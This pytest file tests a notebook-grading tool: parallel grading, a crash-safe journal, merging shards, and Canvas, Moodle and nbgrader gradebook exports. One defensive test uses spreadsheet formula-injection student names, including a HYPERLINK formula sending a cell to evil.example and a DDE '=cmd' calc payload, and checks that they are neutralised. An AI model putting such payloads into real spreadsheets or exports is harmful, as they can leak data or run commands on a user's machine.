"""A class, not a file (issue 20, items 10 and 11): several submissions graded at once, a journal that survives a
kill, slices for a cluster joined by ``merge``, and gradebooks that Canvas, Moodle and nbgrader import, with no
cell a spreadsheet would run as a formula.

The exports are read back the way each LMS reads them: ``csv.DictReader`` and their own column names. Most
submissions here are files the grader refuses before anything runs (a scan named ``.ipynb``), so the class
machinery is exercised without the cost of grading; the parallel test grades real ex01 notebooks.
"""

import contextlib
import csv
import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import psutil
import pytest

from fmlearn.grading import Result, TaskScore
from fmlearn.grading.__main__ import main
from fmlearn.grading.gradebook import (Entry, Journal, class_entries, grade_entries, journal_path, merge,
                                       parse_shard, shard, student_pattern)
from fmlearn.grading.report import Row, write_table
from fmlearn.grading.submissions import load_exercises

from test_grading import EX01, EX03, _answered, _blank, _clean_env, _prepend, _save, _wrong

ROOT = Path(__file__).resolve().parents[1]
EXERCISES = load_exercises(ROOT / "solutions")
SCAN = b"%PDF-1.4\n\x00\x01 a scan of handwritten answers\n"  # refused at once: not a notebook
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


def _scans(folder: Path, names: list[str]) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    for name in names:
        (folder / name).write_bytes(SCAN)
    return [folder / name for name in names]


def _csv(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


# --- who handed in what ------------------------------------------------------------------------------------------

def test_the_student_comes_from_the_file_name_or_nbgrader_folders(tmp_path):
    flat = _scans(tmp_path / "flat", [f"{EX01}_alice.ipynb", f"{EX03}_bob_smith.ipynb", "homework.ipynb"])
    nb = tmp_path / "course" / "submitted"
    _scans(nb / "carol" / "ps1", ["notebook.ipynb"])
    (nb / "carol" / "ps1" / "timestamp.txt").write_text("2026-12-01 10:00:00.000000 UTC\n")
    _scans(nb / "dave" / "ps2", [f"{EX01}.ipynb"])
    entries = {Path(e.file).name: e for e in class_entries([tmp_path / "flat", tmp_path / "course"], EXERCISES)}
    assert entries[flat[0].name] == Entry(str(flat[0]), "alice")
    assert entries[flat[1].name] == Entry(str(flat[1]), "bob_smith")  # the exercise's name, then the student
    assert entries["homework.ipynb"].student is None
    assert entries["notebook.ipynb"] == Entry(str(nb / "carol" / "ps1" / "notebook.ipynb"), "carol", "ps1",
                                              "2026-12-01 10:00:00.000000 UTC")
    assert entries[f"{EX01}.ipynb"] == Entry(str(nb / "dave" / "ps2" / f"{EX01}.ipynb"), "dave", "ps2")
    assert "timestamp.txt" not in entries  # nbgrader's own file is no submission
    _scans(tmp_path / "lms", ["alice_1234_5678_homework.ipynb", "bob_2345_6789_ex01.ipynb", "notes.ipynb"])
    pattern = student_pattern(r"^(?P<student>[a-z]+)_\d+_\d+_")  # a download that names files its own way
    assert [e.student for e in class_entries([tmp_path / "lms"], EXERCISES, pattern)] == ["alice", "bob", None]


def test_a_bad_pattern_or_shard_is_refused_naming_the_option():
    with pytest.raises(ValueError, match=r"--student-pattern: expected a group named student.*got '\(\?P<who>"):
        student_pattern(r"(?P<who>\w+)")
    with pytest.raises(ValueError, match="--student-pattern: '\\(' is not a regular expression"):
        student_pattern("(")
    for bad in ("0/3", "4/3", "1", "a/b", "-1/2"):
        with pytest.raises(ValueError, match=f"--shard: expected K/N with 1 <= K <= N .*got '{bad}'"):
            parse_shard(bad)
    assert parse_shard(" 2 / 5 ") == (2, 5)


def test_shards_are_disjoint_cover_the_class_and_do_not_depend_on_the_listing(tmp_path):
    names = [f"{EX01}_{s}.ipynb" for s in ("zoe", "Bob", "alice", "émile", "dan", "eve", "frank")]
    _scans(tmp_path / "b", names[:4])
    _scans(tmp_path / "a", names[4:])
    one = class_entries([tmp_path / "a", tmp_path / "b"], EXERCISES)
    other = class_entries([tmp_path / "b", tmp_path / "a", tmp_path / "a"], EXERCISES)  # another order, twice
    assert one == other and len(one) == 7
    assert [e.file for e in one] == sorted(e.file for e in one)  # code-point order, whatever the locale
    for n in (1, 2, 3, 7, 9):
        slices = [shard(one, k, n) for k in range(1, n + 1)]
        files = [e.file for s in slices for e in s]
        assert sorted(files) == sorted(e.file for e in one) and len(set(files)) == 7  # cover, no overlap
        assert max(map(len, slices)) - min(map(len, slices)) <= 1


# --- what the gradebooks say ---------------------------------------------------------------------------------

def _result(name: str, exercise: str, points: list[float], maximum: list[float]) -> Result:
    return Result(name, exercise, [TaskScore(f"t{i}", p, m) for i, (p, m) in enumerate(zip(points, maximum))],
                  sum(maximum))


ROWS = [Row(_result(f"{EX01}_alice.ipynb", EX01, [2, 2, 2, 2, 2], [2] * 5), "alice", EX01),
        Row(_result(f"{EX03}_alice.ipynb", EX03, [2, 3, 0], [2, 3, 2]), "alice", EX03),
        Row(_result(f"{EX01}_bob.ipynb", EX01, [2, 2, 0, 0, 2.5], [2] * 4 + [2.5]), "bob", EX01),
        Row(_result("notes.txt", None, [], [0]), None, None)]


def test_canvas_moodle_and_nbgrader_read_the_gradebook_with_their_own_columns(tmp_path):
    write_table(ROWS, tmp_path / "canvas.csv", "canvas")
    canvas = _csv(tmp_path / "canvas.csv")
    assert list(canvas[0]) == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", EX01, EX03]
    assert {r["SIS Login ID"]: (r[EX01], r[EX03]) for r in canvas} == {"alice": ("10", "5"), "bob": ("6.5", "")}
    write_table(ROWS, tmp_path / "moodle.csv", "moodle")
    moodle = _csv(tmp_path / "moodle.csv")
    assert {r["Username"]: (float(r[EX01]), r[EX03]) for r in moodle} == {"alice": (10, "5"), "bob": (6.5, "")}
    write_table(ROWS, tmp_path / "grades.csv", "nbgrader")
    nbgrader = _csv(tmp_path / "grades.csv")
    assert list(nbgrader[0]) == ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_name",
                                 "email", "raw_score", "late_submission_penalty", "score", "max_score"]
    assert [(r["assignment"], r["student_id"], float(r["raw_score"]), float(r["score"]), float(r["max_score"]))
            for r in nbgrader] == [(EX01, "alice", 10, 10, 10), (EX01, "bob", 6.5, 6.5, 10.5), (EX03, "alice", 5, 5, 7)]
    write_table(ROWS, tmp_path / "table.csv")
    table = _csv(tmp_path / "table.csv")
    assert [(r["student"], r["points"]) for r in table] == [("alice", "10"), ("alice", "5"), ("bob", "6.5"),
                                                            ("", "0")]
    with pytest.raises(ValueError, match=f"student 'bob' has two submissions for {EX01}: {EX01}_bob.ipynb and "
                       "late.ipynb"):
        write_table([*ROWS, Row(_result("late.ipynb", EX01, [0], [10]), "bob", EX01)], tmp_path / "c.csv", "canvas")
    write_table([Row(_result("x.ipynb", EX01, [1], [10]), "\r=cmd", EX01)], tmp_path / "cr.csv", "canvas")
    assert _csv(tmp_path / "cr.csv")[0]["Student"] == "'\r=cmd"  # a carriage return first: neutralised too
    with pytest.raises(ValueError, match="out: the moodle format is a .csv file, got '.*grades.json'"):
        write_table(ROWS, tmp_path / "grades.json", "moodle")


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def test_no_cell_of_any_gradebook_is_a_formula_and_links_are_not_followed(tmp_path, monkeypatch, capsys):
    """Students named like formulas; a symbolic link to the solutions (graded, it would score full points)."""
    hostile = ["=HYPERLINK(\"evil.example?\"&A1,\"10\")", "+1", "-2+3", "@SUM(A1)", "\tx"]
    students = ["'" + s for s in hostile]
    sub = tmp_path / "submitted"
    _scans(sub, [f"{EX01}_{s}.ipynb" for s in hostile] + [f"=cmd|' -C calc'!A0_{EX01}.ipynb"])
    (sub / f"{EX01}_mallory.ipynb").symlink_to(ROOT / "solutions" / f"{EX01}.py")
    monkeypatch.chdir(tmp_path)
    assert main(["submitted", "--out", "grades.csv"]) == 0
    for fmt in ("canvas", "moodle", "nbgrader"):
        capsys.readouterr()
        assert main(["merge", "grades.csv", "--format", fmt, "--out", f"{fmt}.csv"]) == 0
        assert f"not in the {fmt} gradebook: submitted/=cmd" in capsys.readouterr().err  # no student id: said
    table = _csv(tmp_path / "grades.csv")
    assert {r["student"] for r in table} == {*students, "", "mallory"}
    mallory = next(r for r in table if r["student"] == "mallory")
    assert (mallory["points"], mallory["max_points"]) == ("0", "10") and "symbolic link" in mallory["note"]
    for name in ("grades.csv", "canvas.csv", "moodle.csv", "nbgrader.csv"):
        cells = _cells(tmp_path / name)
        assert len(cells) >= 2 * (len(hostile) + 2)  # a header and a row per student at least
        assert not [c for c in cells if c.startswith(FORMULA)], name
    canvas = _csv(tmp_path / "canvas.csv")
    assert sorted(r["Student"] for r in canvas) == sorted([*students, "mallory"])
    assert all(r[EX01] == "0" for r in canvas)


# --- a class graded at once, a run that is killed, slices merged -----------------------------------------------

def test_a_class_is_graded_in_parallel_and_a_stubborn_submission_costs_only_its_time(tmp_path, monkeypatch,
                                                                                      capsys):
    sub = tmp_path / "submitted"
    _save(_answered(EX01), sub / f"{EX01}_alice.ipynb")
    _save(_wrong(), sub / f"{EX01}_bob.ipynb")
    _save(_blank(EX01), sub / f"{EX01}_carol.ipynb")
    _save(_prepend(_blank(EX01), "schedule", "while True:\n    pass"), sub / f"{EX01}_dave.ipynb")
    monkeypatch.chdir(tmp_path)
    started = time.monotonic()
    assert main(["submitted", "--jobs", "2", "--timeout", "4", "--notebook-timeout", "60", "--out", "grades.json"]) == 0
    seconds = time.monotonic() - started
    rows = {r["student"]: r for r in json.loads((tmp_path / "grades.json").read_text())["submissions"]}
    assert {s: r["points"] for s, r in rows.items()} == {"alice": 10, "bob": 6, "carol": 0, "dave": 0}
    assert "ran past the 4 s limit of one cell" in rows["dave"]["note"]
    summary = [line for line in capsys.readouterr().err.splitlines() if line.startswith("class: ")]
    assert summary and "4 submissions graded in" in summary[0] and "per minute with 2 jobs" in summary[0]
    assert seconds < 120, seconds


def _cmdline(process: psutil.Process) -> list[str]:
    try:
        return process.cmdline()
    except (psutil.NoSuchProcess, psutil.ZombieProcess, psutil.AccessDenied):
        return []


def _freeze_a_grading_worker(found: dict) -> None:
    """Stop (SIGSTOP) this process's grading worker once its sandbox runs: a grader that hangs. Resumed after 40 s
    if nothing stopped it (so a grader without a watchdog fails the test rather than hang it)."""
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not found:
        for worker in psutil.Process().children():
            try:  # a process met on the way may end (or be a zombie: the jail's probe) while it is read
                sandboxes = [c for c in worker.children(recursive=True) if "_sandbox" in " ".join(_cmdline(c))]
                if sandboxes:
                    worker.suspend()
                    found.update(worker=worker, sandbox=sandboxes[0], scratch=worker.children()[0].cwd())
                    break
            except (psutil.NoSuchProcess, psutil.ZombieProcess, IndexError):
                found.clear()
        time.sleep(0.1)
    until = time.monotonic() + 40
    with contextlib.suppress(psutil.NoSuchProcess, KeyError):
        while time.monotonic() < until and found["worker"].status() != psutil.STATUS_ZOMBIE:
            time.sleep(0.2)
        if found["worker"].status() != psutil.STATUS_ZOMBIE:
            found["worker"].resume()


def _gone(process: psutil.Process) -> bool:
    """Exited (a zombie that its new parent has not reaped yet counts: it runs nothing)."""
    try:
        return not process.is_running() or process.status() == psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return True


def test_a_worker_that_hangs_is_stopped_and_the_others_are_graded(tmp_path):
    """A worker frozen mid-submission (as a grader blocked on a read would be) is stopped at notebook_timeout +
    grace, its sandbox with it; the submission gets 0 and the reason, and a fresh worker grades the next one."""
    sub = tmp_path / "submitted"
    _save(_prepend(_blank(EX01), "schedule", "while True:\n    pass"), sub / f"{EX01}_dave.ipynb")
    _scans(sub, [f"{EX01}_erin.ipynb"])
    results, found = {}, {}
    freezer = threading.Thread(target=_freeze_a_grading_worker, args=(found,))
    freezer.start()
    started = time.monotonic()
    grade_entries(class_entries([sub], EXERCISES), lambda e, r, fault: results.update({e.student: (r, fault)}),
                  exercises=EXERCISES, limits={"timeout": 60, "notebook_timeout": 3}, grace=2)
    freezer.join()
    assert time.monotonic() - started < 60
    assert found and _gone(found["worker"]) and _gone(found["sandbox"])
    assert not Path(found["scratch"]).exists()  # the sandbox's folder, deleted with it
    (dave, fault), (erin, erin_fault) = results["dave"], results["erin"]
    assert (dave.points, dave.max_points, fault) == (0, 10, True)  # the grader's fault: a rerun tries it again
    assert dave.reason == "the grader stopped it: no result 5 s after it started (its time limit is 3 s)"
    assert "not a readable notebook" in erin.reason and not erin_fault


def test_a_killed_run_keeps_its_rows_and_a_rerun_resumes(tmp_path, monkeypatch, capsys):
    """The first submission is refused at once; the second loops. Killed (SIGKILL) once the first row is in the
    journal, the run has lost nothing that was graded: the rerun grades only the second."""
    sub = tmp_path / "submitted"
    _scans(sub, [f"{EX01}_alice.ipynb"])
    _save(_prepend(_blank(EX01), "schedule", "while True:\n    pass"), sub / f"{EX01}_bob.ipynb")
    journal = journal_path(tmp_path / "grades.csv")
    run = subprocess.Popen([sys.executable, "-m", "fmlearn.grading", "submitted", "--out", "grades.csv",
                            "--timeout", "60"], cwd=tmp_path, env=_clean_env(), stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while not (journal.exists() and '"row"' in journal.read_text()) and time.monotonic() < deadline:
            time.sleep(0.2)
        time.sleep(1)
    finally:
        os.kill(run.pid, signal.SIGKILL)
        run.wait()
    lines = journal.read_text().splitlines()
    assert sum('"row"' in line for line in lines) == 1 and f"{EX01}_alice" in lines[-1]
    assert not (tmp_path / "grades.csv").exists()
    (sub / f"{EX01}_bob.ipynb").write_bytes(SCAN)  # changed since: graded again (at once, this time)
    monkeypatch.chdir(tmp_path)
    capsys.readouterr()
    assert main(["submitted", "--out", "grades.csv"]) == 0
    err = capsys.readouterr().err
    assert "1 of 2 submissions already graded, 1 to grade\n" in err
    assert f"graded submitted/{EX01}_alice" not in err and f"graded submitted/{EX01}_bob" in err
    assert [r["student"] for r in _csv(tmp_path / "grades.csv")] == ["alice", "bob"]
    assert sum(f"{EX01}_alice" in line and '"row"' in line for line in journal.read_text().splitlines()) == 1
    (sub / f"{EX01}_alice.ipynb").write_bytes(SCAN + b"resubmitted")  # a file that changed is graded again
    assert main(["submitted", "--out", "grades.csv"]) == 0
    err = capsys.readouterr().err
    assert "1 of 2 submissions already graded, 1 to grade (1 changed since)" in err
    assert f"graded submitted/{EX01}_alice" in err and f"graded submitted/{EX01}_bob" not in err
    lines = journal.read_text().splitlines(keepends=True)  # bob's row, as if a worker had died on it
    bob = max(i for i, line in enumerate(lines) if f"{EX01}_bob" in line and '"row"' in line)
    lines[bob] = lines[bob].replace('"fault": false', '"fault": true')
    journal.write_text("".join(lines))
    assert main(["submitted", "--out", "grades.csv"]) == 0
    err = capsys.readouterr().err
    assert "1 of 2 submissions already graded, 1 to grade (1 the grader failed on)" in err
    assert f"graded submitted/{EX01}_bob" in err and f"graded submitted/{EX01}_alice" not in err


def test_slices_graded_apart_merge_into_one_gradebook_and_bad_sets_are_refused(tmp_path, monkeypatch, capsys):
    students = ["ann", "ben", "cat", "dan", "eli"]
    _scans(tmp_path / "submitted", [f"{EX01}_{s}.ipynb" for s in students])
    _scans(tmp_path / "other", [f"{EX01}_{s}.ipynb" for s in students[:2]])
    monkeypatch.chdir(tmp_path)
    for k in (1, 2):
        assert main(["submitted", "--shard", f"{k}/2", "--out", f"part{k}.csv"]) == 0
    assert main(["other", "--shard", "1/2", "--out", "other.csv"]) == 0
    assert [r["student"] for r in _csv(tmp_path / "part1.csv")] == ["ann", "cat", "eli"]
    assert main(["merge", "part2.csv", "part1.csv.jsonl", "--format", "canvas", "--out", "class.csv"]) == 0
    assert [(r["SIS Login ID"], r[EX01]) for r in _csv(tmp_path / "class.csv")] == [(s, "0") for s in students]
    assert len(merge(["part1.csv", "part2.csv"])) == 5
    bad = {("part1.csv",): "slice 2/2 missing",
           ("part1.csv", "part1.csv.jsonl", "part2.csv"): "slice 1/2 given twice",
           ("part1.csv", "other.csv"): "were not cut from the same list",
           ("grades.csv",): "grades.csv is not a grading journal"}
    lines = (tmp_path / "part2.csv.jsonl").read_text().splitlines()
    (tmp_path / "cut.csv.jsonl").write_text("\n".join(lines[:-1]) + "\n")  # its last row lost
    bad[("part1.csv", "cut.csv")] = r"cut.csv.jsonl: 1 of its 2 submissions are not graded \(e.g. submitted/"
    sliced, *rows = [json.loads(line) for line in lines]
    ann = json.loads((tmp_path / "part1.csv.jsonl").read_text().splitlines()[1])
    sliced["slice"]["files"].insert(0, ann["row"]["submission"])  # slice 2 claims a file of slice 1
    (tmp_path / "twice.csv.jsonl").write_text("".join(json.dumps(r) + "\n" for r in [sliced, ann, *rows]))
    bad[("part1.csv", "twice.csv")] = f"submitted/{EX01}_ann.ipynb is in two slices: part1.csv.jsonl and twice"
    for paths, message in bad.items():
        with pytest.raises(SystemExit, match=message):
            main(["merge", *paths, "--out", "class.csv"])
    with pytest.raises(SystemExit, match="part1.csv.jsonl holds the grades of slice 1/2, not 2/2; pass another"):
        main(["submitted", "--shard", "2/2", "--out", "part1.csv"])
    held = Journal(journal_path(tmp_path / "part2.csv"))  # a run that is still writing part2
    with pytest.raises(SystemExit, match="part2.csv.jsonl: another run is writing this journal"):
        main(["submitted", "--shard", "2/2", "--out", "part2.csv"])
    held.close()
    capsys.readouterr()
